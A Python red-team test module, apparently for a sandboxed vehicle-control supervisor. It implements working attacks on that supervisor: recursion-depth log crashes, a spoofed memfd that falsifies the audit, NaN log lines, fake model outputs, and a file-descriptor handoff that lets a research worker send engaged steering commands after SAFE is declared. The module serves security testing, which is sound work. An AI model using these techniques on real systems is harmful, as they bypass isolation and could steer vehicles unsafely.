"""Red team, round 6: the attacks whose attacker is a worker, run from inside a real
sandbox (``module = "workers.probe.attacks_redteam6"``, args ``--attack NAME``).
tests/test_redteam_round6.py starts them under an embedded Supervisor.

* ``deep_log`` (research): prints lines shaped as ``WorkerContext.log`` records
  (``{"log": ..., "data": ...}``) whose ``data`` nests lists ``--lo``..``--hi`` deep,
  each line under the 2 KiB output limit. The supervisor parses such a line
  (`output.parse_log_record`, which survives a RecursionError in ``json.loads``) and
  re-emits it as a ``log`` event, whose rendering (`events.render`: ``json.dumps``)
  needs a little more stack than the parse did: at one depth in that band the parse
  succeeds and the rendering raises RecursionError inside the supervisor's own task.

* ``spoof_channel`` (research): a memfd of its own named like a channel's segment
  (``trio-bridge:--name``), mapped read-write and held. `audit --live` reads which
  channels a sandbox maps from /proc/PID/maps by that name alone
  (`audit/evidence.channel_mappings`): the worker chooses what the signed audit says it
  writes.

* ``nan_log`` (research): a ``WorkerContext.log``-shaped line whose data holds NaN and
  Infinity (Python's json reads them): re-emitted, the supervisor's event line is no
  longer JSON (RFC 8259 has neither), and a strict reader of the event stream (jq,
  journald's JSON consumers) stops at it.

* ``shadow_model`` (research): publishes model outputs of its own (offset 1.5 m, heading
  0.2 rad, confidence 0.99) on ``--pub``, a channel some control worker reads through
  ``shadow_subscribes`` ("read for logging only, never for actuation"). Roles are
  roles: a branch's config that binds controlsd's ``model`` role there passes the trust
  rule (`config/_rules.check_trust` looks at ``subscribes`` only) and controlsd steers
  on research's numbers.

* ``fd_handoff`` (control, the actuation writer of ``--pub``) and ``fd_catch`` (research,
  a reader of the same channel, ``--sub``): the writer holds its end of every reader's
  wake-up socket; it sends its own read-write segment fd, lease tables and wake-up ends
  over the research reader's socket (SCM_RIGHTS), then dies. The supervisor says SAFE
  once everything left of the writer's sandbox is gone; the research worker, which now
  holds a write description of the actuation segment, publishes engaged commands after
  it ("the ring's last word is always SAFE").

Each attack prints one line ``ATTACK {json}`` (before the hostile lines, so that the
test knows it ran even if the supervisor does not survive what follows).
"""
from __future__ import annotations

import argparse
import json
import os
import signal
import sys
import time
from typing import Callable

from supervisor.worker import WorkerContext


def deep_log(ctx: WorkerContext, a: argparse.Namespace) -> dict:
    print("ATTACK " + json.dumps({"attack": "deep_log", "lo": a.lo, "hi": a.hi}), flush=True)
    if a.wait_signal:            # the test says when (its other checks first)
        signal.sigtimedwait([signal.SIGUSR1], 60.0)
    else:
        time.sleep(a.delay_s)    # the control worker settles first
    for n in range(a.lo, a.hi):
        line = '{"log":"deep","data":{"a":' + "[" * n + "]" * n + "}}"
        os.write(1, line.encode() + b"\n")
        time.sleep(0.005)        # 100 lines: under the output bucket's burst of 200
    return {"denied": False, "sent": a.hi - a.lo}


def spoof_channel(ctx: WorkerContext, a: argparse.Namespace) -> dict:
    import mmap

    fd = os.memfd_create(f"trio-bridge:{a.name}", 0)
    os.ftruncate(fd, 4096)
    m = mmap.mmap(fd, 4096, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE)
    m[:4] = b"spof"
    _HELD.append((fd, m))            # held for the audit to see
    return {"denied": False, "name": f"trio-bridge:{a.name}"}


_HELD: list = []


def shadow_model(ctx: WorkerContext, a: argparse.Namespace) -> dict:
    from schemas.payloads import MODEL_OUT

    w = ctx.writer(a.pub)
    end = time.monotonic() + a.seconds
    n = 0
    while time.monotonic() < end:
        ctx.watchdog()
        w.publish_array(MODEL_OUT.encode(offset_m=1.5, heading_rad=0.2, confidence=0.99))
        n += 1
        time.sleep(0.05)
    return {"denied": False, "published": n}


_FRAME = b"RT6"


def fd_handoff(ctx: WorkerContext, a: argparse.Namespace) -> dict:
    import array
    import socket

    from schemas.payloads import CONTROL_CMD

    w = ctx.writer(a.pub)
    h = json.loads(ctx._handle_json(a.pub))
    fds = [h["data_fd"], *h["lease_fds"], *h["event_fds"]]
    from supervisor.ipc import layout as L

    def taken(i: int) -> bool:     # reader i has consumed a command (its lease table)
        mm = w._leases[i] if i < len(w._leases) else None
        return (mm is not None and L.U64.unpack_from(mm, 0)[0] == L.LEASE_MAGIC
                and L.U64.unpack_from(mm, L.OFF_TAKEN)[0] > 0)

    end = time.monotonic() + 60.0
    n = 0
    while n < 20 or (a.wait_reader >= 0 and not taken(a.wait_reader)
                     and time.monotonic() < end):
        ctx.watchdog()
        w.publish_array(CONTROL_CMD.encode(steer_rad=0.1, engaged=1.0, reason=0.0,
                                           model_age_ms=5.0))
        n += 1
        time.sleep(0.01)
    sent, errors = 0, []
    for efd in h["event_fds"]:
        s = socket.socket(fileno=os.dup(efd))
        try:
            s.setblocking(True)
            s.sendmsg([_FRAME + json.dumps(h).encode() + b"\n"],
                      [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", fds))])
            sent += 1
        except OSError as e:
            errors.append(f"{type(e).__name__}: {e}")
        finally:
            s.close()
    print("RESULT fd_handoff " + json.dumps({"sent": sent, "errors": errors[:3]}), flush=True)
    time.sleep(0.2)
    os._exit(1)                  # the writer dies: the supervisor's SAFE follows


def fd_catch(ctx: WorkerContext, a: argparse.Namespace) -> dict:
    import array
    import socket

    from schemas.payloads import CONTROL_CMD
    from supervisor.ipc import Writer
    from supervisor.ipc.channel import WriterHandle

    h = json.loads(ctx._handle_json(a.sub))
    s = socket.socket(fileno=os.dup(h["event_fd"]))
    s.settimeout(1.0)
    buf, fds = b"", []
    end = time.monotonic() + a.seconds
    while time.monotonic() < end and not (fds and b"\n" in buf[buf.find(_FRAME):]):
        ctx.watchdog()
        try:
            data, anc, _flags, _addr = s.recvmsg(65536, socket.CMSG_SPACE(64 * 4))
        except socket.timeout:
            continue
        buf += data
        for level, kind, raw in anc:
            if level == socket.SOL_SOCKET and kind == socket.SCM_RIGHTS:
                got = array.array("i")
                got.frombytes(raw[:len(raw) - len(raw) % 4])
                fds += list(got)
    if not fds or _FRAME not in buf:
        return {"denied": True, "error": "no descriptors came"}
    text = buf[buf.find(_FRAME) + len(_FRAME):].split(b"\n", 1)[0]
    wh = json.loads(text)            # the writer's handle; its fds in the order sent
    nl = len(wh["lease_fds"])
    wh.update(data_fd=fds[0], lease_fds=fds[1:1 + nl], event_fds=fds[1 + nl:])
    time.sleep(a.delay_s)            # the writer is dead by now and SAFE said
    w = Writer(WriterHandle.from_json(json.dumps(wh)), domain="control", seal=False)
    n = 0
    stop = time.monotonic() + 1.0
    while time.monotonic() < stop:
        w.publish_array(CONTROL_CMD.encode(steer_rad=0.3, engaged=1.0, reason=0.0,
                                           model_age_ms=5.0))
        n += 1
        time.sleep(0.01)
    return {"denied": False, "fds": len(fds), "published": n}


def nan_log(ctx: WorkerContext, a: argparse.Namespace) -> dict:
    print('{"log":"nan","data":{"x":NaN,"y":Infinity,"z":-Infinity}}', flush=True)
    return {"denied": False}


ATTACKS: dict[str, Callable[[WorkerContext, argparse.Namespace], dict]] = {
    f.__name__: f for f in (deep_log, spoof_channel, nan_log, shadow_model, fd_handoff, fd_catch)
}


def _args(argv: list[str]) -> argparse.Namespace:
    p = argparse.ArgumentParser(prog="workers.probe.attacks_redteam6")
    p.add_argument("--attack", required=True, action="append", choices=sorted(ATTACKS))
    p.add_argument("--lo", type=int, default=900)
    p.add_argument("--hi", type=int, default=1000)
    p.add_argument("--delay-s", type=float, default=1.0)
    p.add_argument("--name", default="cmd")
    p.add_argument("--wait-signal", action="store_true")
    p.add_argument("--pub", default="")
    p.add_argument("--sub", default="")
    p.add_argument("--wait-reader", type=int, default=-1)
    p.add_argument("--seconds", type=float, default=3.0)
    return p.parse_args(argv)


def main(ctx: WorkerContext) -> int:
    a = _args(sys.argv[1:])
    if a.wait_signal:            # blocked before READY: a signal sent after it waits
        signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGUSR1])
    if a.pub:                        # mapped before READY
        ctx.writer(a.pub)
    ctx.ready(status=f"redteam6 pid {os.getpid()}")
    for name in a.attack:
        try:
            res = ATTACKS[name](ctx, a)
        except Exception as e:       # an attack that failed is reported, not hidden
            res = {"denied": True, "error": f"{type(e).__name__}: {e}"}
        print(f"RESULT {name} " + json.dumps(res), flush=True)
    print("DONE " + json.dumps({"attack": a.attack}), flush=True)
    while True:
        ctx.watchdog()
        time.sleep(0.05)
